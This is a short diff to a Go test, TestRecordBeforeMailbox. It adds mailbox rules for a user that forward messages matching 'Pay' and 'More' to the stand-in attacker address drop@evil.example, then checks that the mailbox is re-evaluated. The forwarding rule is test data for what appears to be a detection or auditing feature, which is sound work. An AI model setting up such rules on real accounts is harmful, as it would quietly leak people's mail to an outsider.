@@ -335,6 +335,10 @@ func TestRecordBeforeMailbox(t *testing.T) {
 		if got := b.rows(open); len(got) != 1 || !strings.Contains(got[0], `"made"`) {
 			b.Errorf("read again, and open is %q", got)
 		}
+		b.rules(amy, forwards("r1", "Pay", "drop@evil.example"), forwards("r2", "More", "drop@evil.example")) // so that the mailbox is judged again
+		if got := b.rows(open); len(got) != 2 || !strings.Contains(got[0]+got[1], `"made"`) {
+			b.Errorf("judged again, and open is %q", got)
+		}
 	})
 }
 
